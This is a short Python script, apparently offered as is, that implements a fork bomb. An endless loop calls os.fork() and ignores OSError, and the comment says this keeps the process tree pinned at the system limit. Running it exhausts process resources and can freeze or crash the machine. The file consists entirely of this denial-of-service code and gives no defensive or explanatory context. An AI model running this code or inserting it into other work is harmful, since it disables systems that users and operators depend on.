# Forks without end; a failed fork is retried, so the tree stays at the process limit and spins.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
